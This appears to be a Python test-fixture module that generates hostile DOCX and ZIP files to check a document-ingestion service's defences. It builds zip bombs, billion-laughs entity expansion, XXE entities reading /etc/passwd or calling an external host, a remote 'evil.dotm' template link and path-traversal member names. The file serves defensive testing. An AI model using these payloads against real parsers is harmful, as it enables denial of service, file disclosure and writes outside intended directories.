"""ZIP containers: DOCX that unpack to more than they say, refer outside, nest, lie or break."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Mapping

from tests.fakes.files import archive, make_docx, make_zip_bomb
from tests.fakes.hostile.model import WORDS, HostileFile, hostile

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_TYPES = (
    '<?xml version="1.0"?><Types'
    ' xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default'
    ' Extension="rels"'
    ' ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override'
    ' PartName="/word/document.xml"'
    ' ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELATIONSHIPS = (
    '<?xml version="1.0"?><Relationships'
    ' xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"'
    ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"'
    ' Target="word/document.xml"/>'
    "</Relationships>"
)
_PARAGRAPH = f"<w:p><w:r><w:t>{WORDS}</w:t></w:r></w:p>"


def word(body: str, *, prolog: str = "", more: Mapping[str, str | bytes] | None = None) -> bytes:
    """Return a DOCX of our own body; `more` adds parts."""
    text = (
        f'<?xml version="1.0"?>{prolog}<w:document'
        f' xmlns:w="{_W}"><w:body>{body}</w:body></w:document>'
    )
    parts = {
        "[Content_Types].xml": _TYPES,
        "_rels/.rels": _RELATIONSHIPS,
        "word/document.xml": text,
    }
    return archive({**parts, **(more or {})})


def _entities() -> bytes:
    lines = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    body = "<w:p><w:r><w:t>&e11;</w:t></w:r></w:p>"
    return word(body + _PARAGRAPH, prolog=f'<!DOCTYPE x [<!ENTITY e0 "boom">{lines}]>')


def _external(target: str) -> bytes:
    body = "<w:p><w:r><w:t>&leak;</w:t></w:r></w:p>"
    return word(body + _PARAGRAPH, prolog=f'<!DOCTYPE x [<!ENTITY leak SYSTEM "{target}">]>')


def _long_entity() -> bytes:
    body = "<w:p><w:r><w:t>" + "&e;" * 20_000 + "</w:t></w:r></w:p>"
    return word(body, prolog=f'<!DOCTYPE x [<!ENTITY e "{"a" * 50_000}">]>')


def _lying_sizes() -> bytes:
    """Say in the directory that 64 MB are 100 bytes."""
    honest = bytearray(make_zip_bomb(64))
    at = honest.rindex(b"PK\x01\x02")
    honest[at + 24 : at + 28] = struct.pack("<I", 100)
    return bytes(honest)


def _overlapping(copies: int = 1500) -> bytes:
    """One megabyte of zeros, listed many times: the bytes of all entries overlap (Fifield, A better zip bomb, 2019)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("word/document.xml", b"\0" * 2**20)
    single = buffer.getvalue()
    start = single.index(b"PK\x01\x02")
    end = single.index(b"PK\x05\x06")
    entry = single[start:end]
    directory = b"".join(
        entry.replace(b"word/document.xml", b"word/%08d.xml" % n) if n else entry
        for n in range(copies)
    )
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, copies, copies, len(directory), start, 0)
    return single[:start] + directory + tail


def _table(rows: int, columns: int) -> bytes:
    cell = "<w:tc><w:p><w:r><w:t>tide</w:t></w:r></w:p></w:tc>"
    return word(f"<w:tbl>{f'<w:tr>{cell * columns}</w:tr>' * rows}</w:tbl>")


def _remote_template() -> bytes:
    link = (
        '<?xml version="1.0"?><Relationships'
        ' xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship'
        ' Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
        ' Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>'
    )
    return word(_PARAGRAPH, more={"word/_rels/document.xml.rels": link})


def _nested() -> bytes:
    inner = make_zip_bomb(32)
    for _ in range(5):
        inner = archive({"again.zip": inner})
    return word(_PARAGRAPH, more={"word/embeddings/package.zip": inner})


def _damaged_member() -> bytes:
    broken = bytearray(make_docx())
    middle = len(broken) // 3
    broken[middle : middle + 400] = b"\xff" * 400
    return bytes(broken)


ARCHIVES: tuple[HostileFile, ...] = (
    hostile("zip-bomb.docx", make_zip_bomb, "too_large"),
    hostile("zip-bomb-that-lies.docx", _lying_sizes, "unreadable", "too_large"),
    hostile("overlapping-entries.docx", _overlapping, "too_large", "unreadable"),
    hostile(
        "three-thousand-parts.docx",
        lambda: archive({f"word/{n}.xml": "x" for n in range(3000)} | {"word/document.xml": "x"}),
        "too_large",
    ),
    hostile("billion-laughs.docx", _entities, "unreadable", "indexed"),
    hostile("one-long-entity.docx", _long_entity, "unreadable", "indexed", "too_large"),
    hostile("reads-a-file.docx", lambda: _external("file:///etc/passwd"), "unreadable", "indexed"),
    hostile("asks-a-host.docx", lambda: _external("http://192.0.2.1/x"), "unreadable", "indexed"),
    hostile("remote-template.docx", _remote_template, "indexed"),
    hostile(
        "deep-controls.docx",
        lambda: word("<w:sdt><w:sdtContent>" * 50_000 + _PARAGRAPH),
        "unreadable",
    ),
    hostile(
        "deep-and-closed.docx",
        lambda: word(
            "<w:sdt><w:sdtContent>" * 3_000 + _PARAGRAPH + "</w:sdtContent></w:sdt>" * 3_000
        ),
        "unreadable",
        "indexed",
    ),
    hostile(
        "huge-table.docx",
        lambda: _table(20_000, 10),
        "indexed",
        "too_large",
        "unreadable",
        slow=True,
    ),
    hostile("nested-archives.docx", _nested, "indexed"),
    hostile(
        "climbing-names.docx",
        lambda: word(
            _PARAGRAPH,
            more={"../../../../tmp/documind-escaped": b"x", "/etc/documind-escaped": b"x"},
        ),
        "indexed",
        "unreadable",
    ),
    hostile("no-relationships.docx", lambda: archive({"word/document.xml": "<x/>"}), "unreadable"),
    hostile("half.docx", lambda: make_docx()[: len(make_docx()) // 2], "unreadable"),
    hostile("damaged-member.docx", _damaged_member, "unreadable", "indexed"),
    hostile(
        "no-xml.docx",
        lambda: archive(
            {
                "[Content_Types].xml": _TYPES,
                "_rels/.rels": _RELATIONSHIPS,
                "word/document.xml": b"\0" * 500,
            }
        ),
        "unreadable",
    ),
    hostile("sheet.xlsx", lambda: archive({"xl/workbook.xml": "<x/>"}), "unreadable"),
    hostile("plain.zip", lambda: archive({"readme.txt": WORDS}), "unsupported_type"),
    hostile("directory-of-nothing.docx", lambda: b"PK\x03\x04" + b"\0" * 400, "unreadable"),
)
